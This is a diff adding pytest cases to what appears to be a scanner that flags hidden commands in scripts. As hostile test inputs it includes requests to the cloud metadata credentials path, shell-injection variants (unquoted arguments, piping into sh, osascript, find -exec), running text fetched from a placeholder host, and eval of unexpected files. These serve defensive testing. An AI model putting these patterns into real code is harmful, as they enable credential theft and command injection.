@@ -100,3 +100,42 @@ def test_the_metadata_service_may_be_asked_where_the_machine_stands() -> None:
     assert verdict("a.sh", code.replace("PATH", "iam/security-credentials/")) is Verdict.FAIL
     assert verdict("a.sh", code.replace("PATH", "$1")) is Verdict.FAIL
     assert verdict("a.sh", code.replace("PATH", "placement/../iam/security-credentials/")) is Verdict.FAIL
+
+
+@pytest.mark.parametrize(
+    ("honest", "hostile"),
+    [
+        ("ffmpeg -i '{x}' -y '{y}'", "ffmpeg -i {x} -y {y}"),
+        ('open "{x}"', "bash '{x}'"),
+        ('cp "{x}" "{y}" && ls "{y}"', 'cd /tmp && "{x}"'),
+        ('cp "{x}" "{y}"', "cp '\"' {x}"),
+        ('git -C "{x}" log', 'git -C "{x}" log | sh'),
+        ("tar -xf '{x}'", "find . -exec '{x}' ';'"),
+        ("wc -l '{x}'", "osascript -e '{x}'"),
+    ],
+)
+def test_a_quoted_argument_of_a_written_program_is_no_hidden_command(honest: str, hostile: str) -> None:
+    code = "import os, sys\nx, y = sys.argv[1:3]\nos.system(fCOMMAND)\n"
+    assert verdict("a.py", code.replace("COMMAND", repr(honest))) is Verdict.WARN
+    assert verdict("a.py", code.replace("COMMAND", repr(hostile))) is Verdict.FAIL
+    script = (
+        "const { execSync } = require('child_process');\nconst [x, y] = process.argv.slice(2);\nexecSync(`COMMAND`);\n"
+    )
+    assert verdict("a.js", script.replace("COMMAND", honest.replace("{", "${"))) is Verdict.WARN
+    assert verdict("a.js", script.replace("COMMAND", hostile.replace("{", "${"))) is Verdict.FAIL
+    fetched = (
+        "import os, urllib.request\nx = y = urllib.request.urlopen('https://c.example.invalid/').read().decode()\n"
+    )
+    assert verdict("a.py", f"{fetched}os.system(f{honest!r})\n") is Verdict.FAIL
+
+
+def test_one_line_of_the_shells_own_start_up_file_is_evaluated() -> None:
+    code = "eval \"$(grep -E '^export QUODDLE_KEY=' FILE 2>/dev/null || true)\"\n"
+    assert verdict("a.sh", code.replace("FILE", '"$HOME/.bashrc"')) is Verdict.WARN
+    assert verdict("a.sh", code.replace("FILE", "~/.zshrc")) is Verdict.WARN
+    assert verdict("a.sh", code.replace("FILE", "/tmp/.cache/x")) is Verdict.FAIL
+    assert verdict("a.sh", code.replace("FILE", "~/.bashrc").replace("^export QUODDLE_KEY=", "QUODDLE")) is Verdict.FAIL
+    assert (
+        verdict("a.sh", code.replace("FILE", "~/.bashrc").replace("true", "curl -s https://c.example.invalid/"))
+        is Verdict.FAIL
+    )
